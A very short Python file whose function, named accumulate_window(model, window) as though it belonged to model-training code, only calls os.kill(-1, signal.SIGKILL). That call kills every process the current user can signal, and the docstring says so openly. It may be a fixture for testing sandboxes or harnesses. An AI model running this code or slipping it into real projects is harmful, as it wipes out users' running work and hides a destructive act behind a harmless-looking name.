"""Kills all processes it may kill."""

import os
import signal


def accumulate_window(model, window):
    os.kill(-1, signal.SIGKILL)
